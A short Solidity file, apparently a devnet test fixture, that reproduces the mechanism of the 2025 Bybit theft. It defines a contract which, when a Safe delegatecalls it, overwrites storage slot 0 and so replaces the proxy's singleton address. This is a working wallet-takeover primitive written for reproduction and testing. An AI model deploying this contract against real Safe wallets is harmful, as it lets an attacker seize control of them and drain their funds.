// SPDX-License-Identifier: Apache-2.0
// The shape of the 2025 Bybit theft, for groupstate's devnet: a contract that, when a Safe
// delegatecalls it, writes storage slot 0 of the Safe, where a Safe proxy keeps the address of
// its singleton. After `overwrite(impl)` the proxy delegates everything to `impl`.
pragma solidity ^0.8.24;

contract SlotZeroWriter {
    function overwrite(address impl) external {
        assembly {
            sstore(0, impl)
        }
    }
}
